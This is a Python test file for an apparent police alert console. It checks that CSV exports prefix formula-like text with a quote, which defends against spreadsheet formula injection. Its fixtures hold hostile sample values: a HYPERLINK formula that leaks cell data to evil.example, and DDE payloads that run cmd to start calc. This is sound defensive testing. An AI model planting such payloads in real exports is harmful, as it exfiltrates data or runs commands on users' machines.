"""Every CSV the console writes is safe to open in a spreadsheet: text from watchlists and
officers that a spreadsheet would run as a formula (OWASP's CSV injection) is written with
a leading single quote; numbers the console writes stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import numpy as np
import pytest

from console.domain.alerts import (
    Adjudication,
    Alert,
    Correction,
    Decision,
    Outcome,
    OutcomeReport,
)
from console.domain.deployments import Deployment
from console.history_export import export_csv
from console.reports.export import record_csv
from console.reports.record import deployment_record
from console.storage import Store

RAISED = datetime(2026, 11, 27, 9, 0, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for photo")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
ARITHMETIC = "-1+1"


@pytest.fixture
def store(tmp_path):
    s = Store.in_dir(tmp_path)
    yield s
    s.close()


def hostile_deployment(store: Store) -> str:
    """A deployment whose site and authorising officer were typed as formulas, with one
    alert whose subject name, decision note, outcome note and correction reason are."""
    d = Deployment(
        reference="CR-CSV-01",
        site=HYPERLINK,
        cameras=("north",),
        authorised_by=SUM,
        authorised_rank=ARITHMETIC,
        planned_start=RAISED - timedelta(hours=1),
        planned_end=RAISED + timedelta(hours=6),
        threshold=0.4,
    )
    store.deployments.create(d, "PC 1 Ward")
    alert = Alert(
        "CR-CSV-01-a1",
        "north",
        "WL-1",
        HYPERLINK,
        "wanted by the courts",
        0.38,
        0.4,
        12.0,
        300,
        (1, 2, 3, 4),
        RAISED,
        np.full((40, 30, 3), 200, np.uint8),
    )
    store.alerts.save(d.reference, alert)
    later = RAISED + timedelta(seconds=30)
    store.alerts.record_decision(
        Adjudication(alert.alert_id, Decision.ENGAGE, "PC 2 Jones", later, CMD)
    )
    store.alerts.record_outcome(
        OutcomeReport(alert.alert_id, Outcome.NOT_LOCATED, "PC 3 Khan", later, SUM)
    )
    store.alerts.record_correction(
        Correction(alert.alert_id, Decision.FALSE_MATCH, "\tSgt 4 Reid", later, ARITHMETIC)
    )
    return d.reference


def test_the_history_export_neutralises_formulas_from_names_and_notes(store, tmp_path):
    reference = hostile_deployment(store)
    path = export_csv(store.alerts.history(reference), tmp_path / "history.csv")
    with path.open(newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["subject_name"] == "'" + HYPERLINK
    assert row["decision_note"] == "'" + CMD
    assert row["outcome_note"] == "'" + SUM
    assert row["correction_reason"] == "'" + ARITHMETIC
    assert row["corrected_by"] == "'\tSgt 4 Reid"
    # The console's own numbers are written as numbers, unquoted.
    assert row["distance"] == "0.38" and row["seconds_to_adjudication"] == "30.0"
    # No cell of the file starts a formula.
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_record_export_neutralises_formulas_in_the_particulars(store):
    reference = hostile_deployment(store)
    rows = list(csv.DictReader(io.StringIO(record_csv(deployment_record(store, reference)))))
    value = {r["figure"]: r["value"] for r in rows if r["scope"] == "deployment"}
    assert value["site"] == "'" + HYPERLINK
    assert value["authorising_officer"] == f"'{ARITHMETIC} {SUM}"
    for r in rows:
        for cell in r.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ann = Bob", "Ann = Bob"),  # only the first character matters
        ("", ""),
        ("O'Brien", "O'Brien"),
        # Numbers the console writes as numbers stay numbers, negative ones included:
        # a spreadsheet reads -0.5 as a value, not a formula.
        (-0.5, -0.5),
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    from console.csv_safe import safe_cell

    assert safe_cell(value) == written


def test_both_writers_quote_every_cell_including_the_header_and_writerows():
    from console.csv_safe import SafeDictWriter, SafeWriter

    out = io.StringIO()
    w = SafeWriter(out, lineterminator="\n")
    w.writerow(["=a", -1.5, "b"])
    w.writerows([["+c", 2]])
    assert out.getvalue() == "'=a,-1.5,b\n'+c,2\n"
    out = io.StringIO()
    d = SafeDictWriter(out, fieldnames=["=x", "y"], lineterminator="\n")
    d.writeheader()
    d.writerow({"=x": "@1", "y": -2})
    d.writerows([{"=x": "-z", "y": "ok"}])
    assert out.getvalue() == "'=x,y\n'@1,-2\n'-z,ok\n"
